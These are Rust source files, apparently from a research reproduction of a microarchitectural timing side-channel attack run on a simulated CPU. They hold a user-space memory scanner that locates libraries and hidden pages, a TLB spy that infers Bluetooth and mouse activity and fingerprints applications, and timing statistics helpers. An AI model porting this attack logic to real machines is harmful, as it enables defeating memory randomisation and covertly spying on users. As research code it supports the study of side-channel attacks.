        PermClass::ReadExec | PermClass::ReadOnly => ProbedPerm::ReadLike,
        PermClass::ReadWrite => ProbedPerm::ReadWrite,
        PermClass::None => ProbedPerm::NoneOrUnmapped,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_mmu::{AddressSpace, PageSize, PteFlags};
    use avx_os::process::build_process;
    use avx_os::ExecutionContext;
    use avx_uarch::{CpuProfile, Machine, NoiseModel};

    /// Builds a process and returns a prober + truth + a scan anchor a
    /// few pages below libc.
    fn setup(seed: u64) -> (SimProber, avx_os::ProcessTruth) {
        let mut space = AddressSpace::new();
        let truth = build_process(
            &mut space,
            &ImageSignature::fig7_app(),
            &ImageSignature::standard_set(),
            seed,
        );
        // The attacker's own page for calibration.
        let own = VirtAddr::new_truncate(0x5400_0000_0000);
        space
            .map(own, PageSize::Size4K, PteFlags::user_ro())
            .unwrap();
        let mut m = Machine::new(CpuProfile::ice_lake_i7_1065g7(), space, seed);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), truth)
    }

    const OWN: u64 = 0x5400_0000_0000;

    #[test]
    fn region_map_reproduces_fig7_libc() {
        let (mut p, truth) = setup(1);
        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
        let scanner = UserSpaceScanner::new(perm);
        let libc_base = truth.library_base("libc.so.6").unwrap();
        let total_pages = (ImageSignature::libc().span() + 0x4000) / 4096;
        let map = scanner.scan(&mut p, libc_base, total_pages);

        // Expect: ReadLike(0x1e7000), None(0x200000), ReadLike(0x4000),
        // ReadWrite(0x2000 visible + 0x2000 hidden = 0x4000).
        let mapped: Vec<_> = map.regions.iter().collect();
        assert_eq!(mapped[0].perm, ProbedPerm::ReadLike);
        assert_eq!(mapped[0].len(), 0x1e_7000);
        assert_eq!(mapped[1].perm, ProbedPerm::NoneOrUnmapped);
        assert_eq!(mapped[1].len(), 0x20_0000);
        assert_eq!(mapped[2].perm, ProbedPerm::ReadLike);
        assert_eq!(mapped[2].len(), 0x4000);
        assert_eq!(mapped[3].perm, ProbedPerm::ReadWrite);
        assert_eq!(
            mapped[3].len(),
            0x4000,
            "hidden allocator pages detected beyond the maps file"
        );
    }

    #[test]
    fn find_first_mapped_locates_code_base() {
        let (mut p, truth) = setup(2);
        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
        let scanner = UserSpaceScanner::new(perm);
        let base = truth.app.base;
        // Search a window that starts shortly before the app.
        let window_start = VirtAddr::new_truncate(base.as_u64() - 16 * 4096);
        let found = scanner
            .find_first_mapped(&mut p, window_start, 64)
            .expect("app text found");
        assert_eq!(found, base);
    }

    #[test]
    fn confirmed_first_hit_matches_the_quiet_answer() {
        let (mut p, truth) = setup(2);
        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
        let scanner = UserSpaceScanner::new(perm).with_confirmation(ConfirmConfig::default());
        let base = truth.app.base;
        let window_start = VirtAddr::new_truncate(base.as_u64() - 16 * 4096);
        let found = scanner
            .find_first_mapped(&mut p, window_start, 64)
            .expect("app text found with confirmation on");
        assert_eq!(found, base);
    }

    #[test]
    fn library_fingerprinting_identifies_all_standard_libs() {
        let (mut p, truth) = setup(3);
        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
        let scanner = UserSpaceScanner::new(perm);
        // Scan the whole library window from the first lib to past the last.
        let first = truth.libraries.first().unwrap().base;
        let last = truth.libraries.last().unwrap();
        let span = last.base.as_u64() + last.signature.span() + 0x10_0000 - first.as_u64();
        let map = scanner.scan(&mut p, first, span / 4096);
        let matcher = LibraryMatcher::new(ImageSignature::standard_set());
        let matches = matcher.find_all(&map);
        for lib in &truth.libraries {
            let found = matches
                .iter()
                .find(|m| m.name == lib.signature.name)
                .unwrap_or_else(|| panic!("{} not matched", lib.signature.name));
            assert_eq!(found.base, lib.base, "{}", lib.signature.name);
        }
    }

    #[test]
    fn sgx2_context_scan_still_works() {
        let mut space = AddressSpace::new();
        let truth = build_process(
            &mut space,
            &ImageSignature::fig7_app(),
            &[ImageSignature::libc()],
            9,
        );
        let own = VirtAddr::new_truncate(OWN);
        space
            .map(own, PageSize::Size4K, PteFlags::user_ro())
            .unwrap();
        let mut m = Machine::new(CpuProfile::ice_lake_i7_1065g7(), space, 9);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::with_context(m, ExecutionContext::sgx2());
        assert!(!p.context().has_proc_oracle(), "no /proc inside SGX");
        let perm = PermissionAttack::calibrate(&mut p, own);
        let scanner = UserSpaceScanner::new(perm);
        let libc = truth.library_base("libc.so.6").unwrap();
        let map = scanner.scan(&mut p, libc, 8);
        assert_eq!(map.regions[0].perm, ProbedPerm::ReadLike);
    }

    #[test]
    fn region_display_matches_fig7_style() {
        let r = UserRegion {
            start: VirtAddr::new_truncate(0x7f3e_eed4_d000),
            end: VirtAddr::new_truncate(0x7f3e_ef13_8000),
            perm: ProbedPerm::ReadLike,
        };
        assert_eq!(r.to_string(), "7f3eeed4d000-7f3eef138000 (r--|r-x)");
    }

    #[test]
    fn region_map_lookup() {
        let (mut p, truth) = setup(4);
        let perm = PermissionAttack::calibrate(&mut p, VirtAddr::new_truncate(OWN));
        let scanner = UserSpaceScanner::new(perm);
        let libc = truth.library_base("libc.so.6").unwrap();
        let map = scanner.scan(&mut p, libc, 8);
        assert!(map.region_at(libc).is_some());
        assert!(map.region_at(VirtAddr::new_truncate(0x10_0000)).is_none());
        assert!(!map.mapped_regions().is_empty());
    }
}
