//! User-behaviour inference via TLB spying (§IV-E, Fig. 6).
//!
//! A spy process repeats, at 1 Hz: evict the translations of the first
//! pages of a target kernel module, wait one interval (during which the
//! victim may use the module), then time one masked load per page. TLB
//! hits (the kernel touched the module) are hundreds of cycles faster
//! than the cold walks of an idle module.

use avx_mmu::VirtAddr;
use avx_os::activity::ActivityTimeline;

use crate::primitives::TlbAttack;
use crate::prober::Prober;
use crate::stats::{agreement, two_means_threshold};

/// One spy observation.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct TraceSample {
    /// Sample time in seconds.
    pub t: f64,
    /// Maximum masked-load latency across the monitored pages. The
    /// first cold probe dominates when the module is idle (its walk
    /// re-warms the paging-structure caches for the rest), so the max
    /// carries the hit/miss signal — the ≈93 vs ≈430 bands of Fig. 6.
    pub cycles: u64,
}

/// The recorded spy trace (the Fig. 6 curves).
#[derive(Clone, Debug, Default)]
pub struct BehaviourTrace {
    /// Samples in time order.
    pub samples: Vec<TraceSample>,
}

impl BehaviourTrace {
    /// Classifies each sample as active (TLB hit) with a fixed boundary.
    #[must_use]
    pub fn detect_active(&self, hit_boundary: f64) -> Vec<bool> {
        self.samples
            .iter()
            .map(|s| (s.cycles as f64) <= hit_boundary)
            .collect()
    }

    /// Derives a boundary from the trace itself (two-means split).
    #[must_use]
    pub fn auto_boundary(&self) -> Option<f64> {
        let cycles: Vec<u64> = self.samples.iter().map(|s| s.cycles).collect();
        two_means_threshold(&cycles)
    }

    /// Agreement with a ground-truth timeline, sampled at the spy rate.
    #[must_use]
    pub fn score(&self, timeline: &ActivityTimeline, hit_boundary: f64) -> f64 {
        let detected = self.detect_active(hit_boundary);
        let truth: Vec<bool> = self
            .samples
            .iter()
            .map(|s| timeline.active_at(s.t))
            .collect();
        agreement(&detected, &truth)
    }
}

/// Spy configuration.
#[derive(Clone, Copy, Debug)]
pub struct SpyConfig {
    /// Leading module pages to monitor (paper: first 10).
    pub pages: u64,
    /// Sampling interval in seconds (paper: 1 s).
    pub interval_s: f64,
    /// Observation length in seconds (paper: 100 s).
    pub duration_s: f64,
}

impl Default for SpyConfig {
    fn default() -> Self {
        Self {
            pages: 10,
            interval_s: 1.0,
            duration_s: 100.0,
        }
    }
}

/// The TLB spy.
#[derive(Clone, Copy, Debug)]
pub struct TlbSpy {
    /// Configuration.
    pub config: SpyConfig,
    /// Hit/miss oracle.
    pub tlb: TlbAttack,
}

impl TlbSpy {
    /// Builds a spy with the given oracle.
    #[must_use]
    pub fn new(config: SpyConfig, tlb: TlbAttack) -> Self {
        Self { config, tlb }
    }

    /// Runs the spy against the module at `module_base`.
    ///
    /// `advance` is called once per interval with the current time; the
    /// experiment driver uses it to run victim/kernel activity (e.g.
    /// [`avx_os::activity::apply_activity`]) between the eviction and
    /// the measurement — exactly the window real activity would occupy.
    pub fn monitor<P, F>(&self, p: &mut P, module_base: VirtAddr, mut advance: F) -> BehaviourTrace
    where
        P: Prober,
        F: FnMut(&mut P, f64),
    {
        let steps = (self.config.duration_s / self.config.interval_s).round() as u64;
        let mut trace = BehaviourTrace::default();
        for step in 0..steps {
            let t = step as f64 * self.config.interval_s;
            for page in 0..self.config.pages {
                self.tlb.arm(p, module_base.wrapping_add(page * 4096));
            }
            advance(p, t);
            let max_cycles = (0..self.config.pages)
                .map(|page| self.tlb.observe(p, module_base.wrapping_add(page * 4096)).1)
                .max()
                .expect("pages >= 1");
            trace.samples.push(TraceSample {
                t,
                cycles: max_cycles,
            });
        }
        trace
    }
}

/// One measured application-activity vector: per monitored module, the
/// fraction of spy samples in which the module was TLB-hot.
#[derive(Clone, Debug, Default)]
pub struct ActivityVector {
    /// `(module, hot fraction)` per monitored module.
    pub per_module: Vec<(&'static str, f64)>,
}

impl ActivityVector {
    /// Measured hot fraction of `module` (0 when unmonitored).
    #[must_use]
    pub fn fraction(&self, module: &str) -> f64 {
        self.per_module
            .iter()
            .find(|(m, _)| *m == module)
            .map_or(0.0, |(_, f)| *f)
    }

    /// L1 distance to an expected profile over the monitored modules.
    #[must_use]
    pub fn distance(&self, profile: &avx_os::AppProfile) -> f64 {
        self.per_module
            .iter()
            .map(|&(module, observed)| (observed - profile.expected(module)).abs())
            .sum()
    }
}

/// Application fingerprinting via module-activity vectors — the §IV-E
/// closing-remark extension ("fingerprint applications or websites").
///
/// The spy monitors the base pages of several (size-identified) kernel
/// modules simultaneously; the resulting per-module hot fractions form
/// a vector matched against known application profiles.
#[derive(Clone, Copy, Debug)]
pub struct AppFingerprinter {
    /// Hit/miss oracle.
    pub tlb: TlbAttack,
    /// Samples to take (1 Hz each).
    pub samples: u64,
}

impl AppFingerprinter {
    /// Builds a fingerprinter.
    #[must_use]
    pub fn new(tlb: TlbAttack, samples: u64) -> Self {
        Self { tlb, samples }
    }

    /// Observes the targets for `samples` intervals; `advance` runs the
    /// victim between eviction and measurement of each interval.
    pub fn observe<P, F>(
        &self,
        p: &mut P,
        targets: &[(&'static str, VirtAddr)],
        mut advance: F,
    ) -> ActivityVector
    where
        P: Prober,
        F: FnMut(&mut P, f64),
    {
        let mut hot_counts = vec![0u64; targets.len()];
        for step in 0..self.samples {
            let t = step as f64;
            for &(_, base) in targets {
                self.tlb.arm(p, base);
            }
            advance(p, t);
            for (i, &(_, base)) in targets.iter().enumerate() {
                let (state, _) = self.tlb.observe(p, base);
                if state == crate::primitives::TlbState::Hit {
                    hot_counts[i] += 1;
                }
            }
        }
        ActivityVector {
            per_module: targets
                .iter()
                .zip(&hot_counts)
                .map(|(&(name, _), &hits)| (name, hits as f64 / self.samples as f64))
                .collect(),
        }
    }

    /// Nearest-profile classification; returns `(name, distance)`.
    #[must_use]
    pub fn classify<'a>(
        &self,
        observed: &ActivityVector,
        profiles: &'a [avx_os::AppProfile],
    ) -> Option<(&'a avx_os::AppProfile, f64)> {
        profiles
            .iter()
            .map(|prof| (prof, observed.distance(prof)))
            .min_by(|a, b| a.1.total_cmp(&b.1))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::calibrate::Threshold;
    use crate::prober::SimProber;
    use avx_os::activity::{apply_activity, ActivityTimeline, Behaviour};
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn spy_run(timeline: &ActivityTimeline, noise: bool, seed: u64) -> (BehaviourTrace, f64) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), seed);
        if !noise {
            m.set_noise(NoiseModel::none());
        }
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let module = truth
            .module(timeline.behaviour.module_name())
            .expect("module loaded");
        let base = module.base;
        let pages = module.spec.pages();
        let spy = TlbSpy::new(SpyConfig::default(), TlbAttack::from_threshold(&th));
        let trace = spy.monitor(&mut p, base, |p, t| {
            apply_activity(p.machine_mut(), timeline, base, pages, t);
        });
        let boundary = TlbAttack::from_threshold(&th).hit_boundary;
        let score = trace.score(timeline, boundary);
        (trace, score)
    }

    #[test]
    fn bluetooth_trace_matches_fig6() {
        let timeline = ActivityTimeline::bluetooth_session();
        let (trace, score) = spy_run(&timeline, false, 1);
        assert_eq!(trace.samples.len(), 100);
        assert_eq!(score, 1.0, "noiseless spy is exact");
        // Active samples are fast (TLB hit ≈ 93), idle are slow (≈ 430).
        let active = trace.samples[30].cycles;
        let idle = trace.samples[5].cycles;
        assert!(active < 120, "active {active}");
        assert!(idle > 350, "idle {idle}");
    }

    #[test]
    fn mouse_bursts_are_resolved() {
        let timeline = ActivityTimeline::mouse_session();
        let (trace, score) = spy_run(&timeline, false, 2);
        assert_eq!(score, 1.0);
        let detected = trace.detect_active(200.0);
        // Three bursts → three transitions into "active".
        let rises = detected.windows(2).filter(|w| !w[0] && w[1]).count();
        assert_eq!(rises, 3);
    }

    #[test]
    fn auto_boundary_splits_the_trace() {
        let timeline = ActivityTimeline::bluetooth_session();
        let (trace, _) = spy_run(&timeline, false, 3);
        let b = trace.auto_boundary().expect("bimodal trace");
        assert!(b > 100.0 && b < 430.0, "boundary {b}");
        assert!((trace.score(&timeline, b) - 1.0).abs() < 1e-9);
    }

    #[test]
    fn noisy_spy_stays_accurate() {
        let timeline = ActivityTimeline::random(Behaviour::BluetoothAudio, 100.0, 4, 7);
        let (trace, score) = spy_run(&timeline, true, 4);
        assert_eq!(trace.samples.len(), 100);
        assert!(score > 0.93, "score {score}");
    }

    /// Runs one app's timelines against the machine and fingerprints it.
    fn fingerprint_app(profile: &avx_os::AppProfile, seed: u64) -> (&'static str, f64) {
        use avx_os::linux::{LinuxConfig, LinuxSystem};
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (machine, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), seed);
        let mut p = SimProber::new(machine);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);

        // Monitor every unique-sized module the profiles mention.
        let mut names: Vec<&'static str> = avx_os::AppProfile::standard_set()
            .iter()
            .flat_map(|pr| pr.activity.iter().map(|(m, _)| *m))
            .collect();
        names.sort_unstable();
        names.dedup();
        let targets: Vec<(&'static str, avx_mmu::VirtAddr)> = names
            .iter()
            .map(|&n| (n, truth.module(n).expect("module loaded").base))
            .collect();

        let timelines = profile.timelines(60.0, seed);
        let spy = AppFingerprinter::new(TlbAttack::from_threshold(&th), 60);
        let observed = spy.observe(&mut p, &targets, |p, t| {
            for (module, tl) in &timelines {
                let m = truth.module(module).expect("module loaded");
                avx_os::activity::apply_activity(p.machine_mut(), tl, m.base, m.spec.pages(), t);
            }
        });
        let profiles = avx_os::AppProfile::standard_set();
        let (best, dist) = spy
            .classify(&observed, &profiles)
            .expect("non-empty profile set");
        (best.name, dist)
    }

    #[test]
    fn app_fingerprinting_identifies_all_standard_apps() {
        for (i, profile) in avx_os::AppProfile::standard_set().iter().enumerate() {
            let (best, dist) = fingerprint_app(profile, 40 + i as u64);
            assert_eq!(best, profile.name, "distance {dist}");
        }
    }

    #[test]
    fn activity_vector_distance_is_zero_for_perfect_match() {
        let profile = avx_os::AppProfile::editor();
        let v = ActivityVector {
            per_module: profile.activity.clone(),
        };
        assert!(v.distance(&profile) < 1e-12);
        assert!(v.fraction("psmouse") > 0.0);
        assert_eq!(v.fraction("xfs"), 0.0);
    }
}
