//! Small statistics toolkit for timing samples.
//!
//! Everything the attacks and benches need: running mean/σ (Welford),
//! order statistics, robust location/scale estimators (median, MAD,
//! trimmed mean — the numeric core of the [`crate::calibrate`]
//! subsystem), a 1-D two-means split for automatic thresholding, a
//! sequential probability-ratio accumulator ([`SequentialLlr`], the
//! decision core of the adaptive probing engine), and accuracy
//! bookkeeping.
//!
//! # Example: sequential decisions over a calibrated channel
//!
//! ```
//! use avx_channel::stats::{SeqDecision, SequentialLlr};
//!
//! // Alder Lake-style channel: mapped ≈ 93 cycles, unmapped ≈ 107,
//! // Gaussian jitter σ = 1, target error rate 1e-4.
//! let mut acc = SequentialLlr::new(93.0, 107.0, 1.0, 1e-4);
//! assert_eq!(acc.push(93), SeqDecision::Undecided); // one sample never decides
//! assert_eq!(acc.push(93), SeqDecision::Mapped);    // two concordant ones do
//! assert_eq!(acc.count(), 2);
//! ```

use core::fmt;

/// Numerically stable running mean/variance accumulator.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
pub struct Welford {
    n: u64,
    mean: f64,
    m2: f64,
}

impl Welford {
    /// Empty accumulator.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds one sample.
    pub fn push(&mut self, x: f64) {
        self.n += 1;
        let delta = x - self.mean;
        self.mean += delta / self.n as f64;
        self.m2 += delta * (x - self.mean);
    }

    /// Number of samples.
    #[must_use]
    pub fn count(&self) -> u64 {
        self.n
    }

    /// Sample mean (0 when empty).
    #[must_use]
    pub fn mean(&self) -> f64 {
        self.mean
    }

    /// Population variance (0 with <2 samples).
    #[must_use]
    pub fn variance(&self) -> f64 {
        if self.n < 2 {
            0.0
        } else {
            self.m2 / self.n as f64
        }
    }

    /// Population standard deviation.
    #[must_use]
    pub fn stddev(&self) -> f64 {
        self.variance().sqrt()
    }
}

impl Extend<f64> for Welford {
    fn extend<T: IntoIterator<Item = f64>>(&mut self, iter: T) {
        for x in iter {
            self.push(x);
        }
    }
}

/// Summary statistics of a sample set.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Summary {
    /// Sample count.
    pub n: usize,
    /// Mean.
    pub mean: f64,
    /// Standard deviation.
    pub stddev: f64,
    /// Minimum.
    pub min: u64,
    /// Median (lower of the two mid elements for even n).
    pub median: u64,
    /// Maximum.
    pub max: u64,
}

impl Summary {
    /// Computes summary statistics of `samples`.
    ///
    /// # Panics
    ///
    /// Panics on an empty slice — a summary of nothing is a bug upstream.
    #[must_use]
    pub fn of(samples: &[u64]) -> Self {
        assert!(!samples.is_empty(), "summary of empty sample set");
        let mut sorted = samples.to_vec();
        sorted.sort_unstable();
        let mut w = Welford::new();
        w.extend(samples.iter().map(|&x| x as f64));
        Self {
            n: samples.len(),
            mean: w.mean(),
            stddev: w.stddev(),
            min: sorted[0],
            median: sorted[(sorted.len() - 1) / 2],
            max: *sorted.last().expect("non-empty"),
        }
    }
}

impl fmt::Display for Summary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:.1}±{:.2} (min {}, med {}, max {}, n={})",
            self.mean, self.stddev, self.min, self.median, self.max, self.n
        )
    }
}

/// Median of an `f64` slice that is already sorted ascending; averages
/// the two mid elements for even counts. `None` when empty.
fn median_of_sorted(sorted: &[f64]) -> Option<f64> {
    match sorted.len() {
        0 => None,
        n if n % 2 == 1 => Some(sorted[n / 2]),
        n => Some((sorted[n / 2 - 1] + sorted[n / 2]) / 2.0),
    }
}

/// Median of a sample set (mean of the two mid elements for even n —
/// note [`Summary::of`] reports the *lower* mid instead, a deliberately
/// cheaper convention for display purposes). `None` when empty.
///
/// ```
/// assert_eq!(avx_channel::stats::median(&[9, 1, 5]), Some(5.0));
/// assert_eq!(avx_channel::stats::median(&[1, 2, 3, 4]), Some(2.5));
/// assert_eq!(avx_channel::stats::median(&[]), None);
/// ```
#[must_use]
pub fn median(samples: &[u64]) -> Option<f64> {
    let mut sorted: Vec<f64> = samples.iter().map(|&x| x as f64).collect();
    sorted.sort_unstable_by(f64::total_cmp);
    median_of_sorted(&sorted)
}

/// Consistency factor making the MAD an unbiased σ estimator under a
/// Gaussian: `1 / Φ⁻¹(3/4)`.
pub const MAD_CONSISTENCY: f64 = 1.4826;

/// Robust Gaussian-σ estimate via the median absolute deviation:
/// `MAD_CONSISTENCY × median(|x − median(x)|)`.
///
/// Unlike the sample standard deviation, the MAD has a 50 % breakdown
/// point: interrupt spikes in up to half the samples cannot move it.
/// The [`crate::calibrate::NoiseAware`] selector keys off this number
/// to decide whether the environment needs a robust floor estimator.
/// `None` when empty.
#[must_use]
pub fn mad_sigma(samples: &[u64]) -> Option<f64> {
    mad_sigma_scratch(samples.iter().map(|&x| x as f64), &mut Vec::new())
}

/// Allocation-free variant of [`mad_sigma`] for per-tile hot paths
/// (the recalibration [`crate::recal::DriftMonitor`] runs one of these
/// per probe tile): identical result, with all intermediate values
/// kept in the caller's reused `scratch` buffer. On return `scratch`
/// holds the sorted absolute deviations; its length is the sample
/// count, which callers use for minimum-band-size checks.
pub fn mad_sigma_scratch(
    samples: impl Iterator<Item = f64>,
    scratch: &mut Vec<f64>,
) -> Option<f64> {
    scratch.clear();
    scratch.extend(samples);
    scratch.sort_unstable_by(f64::total_cmp);
    let center = median_of_sorted(scratch)?;
    for v in scratch.iter_mut() {
        *v = (*v - center).abs();
    }
    scratch.sort_unstable_by(f64::total_cmp);
    median_of_sorted(scratch).map(|d| MAD_CONSISTENCY * d)
}

/// Symmetrically trimmed mean: sorts the samples, drops the `trim`
/// fraction from *each* tail (at least keeping one sample) and averages
/// the rest. `trim = 0.25` yields the midmean (interquartile mean),
/// which is unbiased for symmetric distributions yet immune to the
/// one-sided interrupt-spike contamination of timing data. `None` when
/// empty; `trim` is clamped into `[0, 0.5)`.
#[must_use]
pub fn trimmed_mean(samples: &[u64], trim: f64) -> Option<f64> {
    if samples.is_empty() {
        return None;
    }
    let trim = trim.clamp(0.0, 0.499);
    let mut sorted = samples.to_vec();
    sorted.sort_unstable();
    let drop_each = ((sorted.len() as f64) * trim).floor() as usize;
    let kept = &sorted[drop_each..sorted.len() - drop_each];
    let mut w = Welford::new();
    w.extend(kept.iter().map(|&x| x as f64));
    Some(w.mean())
}

/// Splits 1-D samples into two clusters (Lloyd's algorithm, k = 2) and
/// returns the midpoint between the converged centroids — an automatic
/// mapped/unmapped threshold when no calibration page is available.
///
/// Returns `None` when the samples cannot be split (fewer than 2
/// distinct values).
#[must_use]
pub fn two_means_threshold(samples: &[u64]) -> Option<f64> {
    let mut lo = *samples.iter().min()? as f64;
    let mut hi = *samples.iter().max()? as f64;
    if lo == hi {
        return None;
    }
    for _ in 0..32 {
        let mid = (lo + hi) / 2.0;
        let mut wl = Welford::new();
        let mut wh = Welford::new();
        for &s in samples {
            if (s as f64) <= mid {
                wl.push(s as f64);
            } else {
                wh.push(s as f64);
            }
        }
        if wl.count() == 0 || wh.count() == 0 {
            return Some(mid);
        }
        let new_lo = wl.mean();
        let new_hi = wh.mean();
        if (new_lo - lo).abs() < 1e-9 && (new_hi - hi).abs() < 1e-9 {
            break;
        }
        lo = new_lo;
        hi = new_hi;
    }
    Some((lo + hi) / 2.0)
}

/// Which hypothesis a [`SequentialLlr`] has settled on.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum SeqDecision {
    /// The samples support the mapped (low-latency) hypothesis.
    Mapped,
    /// The samples support the unmapped (high-latency) hypothesis.
    Unmapped,
    /// Neither boundary crossed yet — keep sampling.
    Undecided,
}

/// Wald's sequential probability-ratio test over the two calibrated
/// timing hypotheses of the mapped/unmapped channel.
///
/// Each probe latency `x` updates the accumulated log-likelihood ratio
/// between two Gaussians `N(μ_unmapped, σ²)` and `N(μ_mapped, σ²)`:
///
/// ```text
/// Λ += (μ₁ − μ₀) · (2x − μ₀ − μ₁) / (2σ²)      (μ₀ mapped, μ₁ unmapped)
/// ```
///
/// Sampling stops as soon as `Λ` escapes `(−A, +A)` with
/// `A = ln((1−ε)/ε)` for the target per-address error rate `ε` — on a
/// quiet machine that is after one or two samples, while a noisy
/// environment automatically buys more evidence. Interrupt spikes are
/// arbitrarily far into the "unmapped" tail, so the per-sample increment
/// is clamped to `±A/2`: no single disturbed reading can decide alone,
/// which is the sequential analogue of the min-filter's spike rejection.
#[derive(Clone, Copy, Debug)]
pub struct SequentialLlr {
    mapped_mean: f64,
    unmapped_mean: f64,
    sigma: f64,
    threshold: f64,
    clamp: f64,
    llr: f64,
    n: u64,
}

/// σ floor: a noiseless machine would otherwise make the per-sample
/// increment infinite and the test degenerate.
const SIGMA_FLOOR: f64 = 0.5;

impl SequentialLlr {
    /// Builds the accumulator for the two hypothesis means, the noise
    /// σ of the environment and a per-address error-rate target
    /// (clamped into `[1e-12, 0.25]`).
    ///
    /// # Panics
    ///
    /// Panics unless `mapped_mean < unmapped_mean` — the channel's
    /// polarity (mapped is faster) is a structural invariant.
    #[must_use]
    pub fn new(mapped_mean: f64, unmapped_mean: f64, sigma: f64, error_rate: f64) -> Self {
        assert!(
            mapped_mean < unmapped_mean,
            "mapped hypothesis must be the faster one ({mapped_mean} vs {unmapped_mean})"
        );
        let error = error_rate.clamp(1e-12, 0.25);
        let threshold = ((1.0 - error) / error).ln();
        Self {
            mapped_mean,
            unmapped_mean,
            sigma: sigma.max(SIGMA_FLOOR),
            threshold,
            clamp: threshold / 2.0,
            llr: 0.0,
            n: 0,
        }
    }

    /// Adds one probe latency; returns the updated decision state.
    pub fn push(&mut self, cycles: u64) -> SeqDecision {
        let x = cycles as f64;
        let gap = self.unmapped_mean - self.mapped_mean;
        let raw = gap * (2.0 * x - self.mapped_mean - self.unmapped_mean)
            / (2.0 * self.sigma * self.sigma);
        self.llr += raw.clamp(-self.clamp, self.clamp);
        self.n += 1;
        self.decision()
    }

    /// Current decision state against the SPRT boundaries.
    #[must_use]
    pub fn decision(&self) -> SeqDecision {
        if self.llr >= self.threshold {
            SeqDecision::Unmapped
        } else if self.llr <= -self.threshold {
            SeqDecision::Mapped
        } else {
            SeqDecision::Undecided
        }
    }

    /// Forced call once the probe budget is exhausted: the sign of the
    /// accumulated evidence. `Λ = 0` (e.g. a sample pinned exactly on
    /// the midpoint) resolves to mapped, matching the `≤`-boundary
    /// convention of [`crate::Threshold::is_mapped`].
    #[must_use]
    pub fn forced(&self) -> SeqDecision {
        if self.llr <= 0.0 {
            SeqDecision::Mapped
        } else {
            SeqDecision::Unmapped
        }
    }

    /// Accumulated log-likelihood ratio (positive favors unmapped).
    #[must_use]
    pub fn llr(&self) -> f64 {
        self.llr
    }

    /// Samples consumed so far.
    #[must_use]
    pub fn count(&self) -> u64 {
        self.n
    }

    /// The decision midpoint `(μ₀ + μ₁)/2` — where a single sample
    /// contributes zero evidence.
    #[must_use]
    pub fn midpoint(&self) -> f64 {
        (self.mapped_mean + self.unmapped_mean) / 2.0
    }
}

/// Fraction of positions where `detected` matches `truth`.
///
/// # Panics
///
/// Panics when lengths differ.
#[must_use]
pub fn agreement(detected: &[bool], truth: &[bool]) -> f64 {
    assert_eq!(detected.len(), truth.len(), "length mismatch");
    if detected.is_empty() {
        return 1.0;
    }
    let same = detected.iter().zip(truth).filter(|(d, t)| d == t).count();
    same as f64 / detected.len() as f64
}

/// Bernoulli success-rate tracker (attack accuracy over trials).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Trials {
    /// Successful trials.
    pub successes: u64,
    /// Total trials.
    pub total: u64,
}

impl Trials {
    /// Empty tracker.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Records one trial.
    pub fn record(&mut self, success: bool) {
        self.total += 1;
        if success {
            self.successes += 1;
        }
    }

    /// Success rate in [0, 1]; 0 for no trials.
    #[must_use]
    pub fn rate(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.successes as f64 / self.total as f64
        }
    }

    /// Success rate in percent.
    #[must_use]
    pub fn percent(&self) -> f64 {
        self.rate() * 100.0
    }
}

impl fmt::Display for Trials {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}/{} ({:.2}%)",
            self.successes,
            self.total,
            self.percent()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn welford_matches_naive() {
        let xs = [2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0];
        let mut w = Welford::new();
        w.extend(xs);
        assert!((w.mean() - 5.0).abs() < 1e-12);
        assert!((w.stddev() - 2.0).abs() < 1e-12);
        assert_eq!(w.count(), 8);
    }

    #[test]
    fn welford_empty_and_single() {
        let mut w = Welford::new();
        assert_eq!(w.mean(), 0.0);
        assert_eq!(w.stddev(), 0.0);
        w.push(42.0);
        assert_eq!(w.mean(), 42.0);
        assert_eq!(w.variance(), 0.0);
    }

    #[test]
    fn summary_order_statistics() {
        let s = Summary::of(&[9, 1, 5, 3, 7]);
        assert_eq!(s.min, 1);
        assert_eq!(s.median, 5);
        assert_eq!(s.max, 9);
        assert_eq!(s.n, 5);
        assert!((s.mean - 5.0).abs() < 1e-12);
    }

    #[test]
    fn summary_even_count_takes_lower_mid() {
        let s = Summary::of(&[1, 2, 3, 4]);
        assert_eq!(s.median, 2);
    }

    #[test]
    #[should_panic(expected = "empty sample set")]
    fn summary_empty_panics() {
        let _ = Summary::of(&[]);
    }

    #[test]
    fn median_interpolates_even_counts() {
        assert_eq!(median(&[3]), Some(3.0));
        assert_eq!(median(&[93, 107]), Some(100.0));
        assert_eq!(median(&[9, 1, 5, 3, 7]), Some(5.0));
        assert_eq!(median(&[]), None);
    }

    #[test]
    fn mad_sigma_matches_gaussian_scale_and_resists_spikes() {
        // ±k around a center: MAD is exactly k × 1.4826.
        let samples = [90u64, 93, 93, 93, 96];
        let mad = mad_sigma(&samples).unwrap();
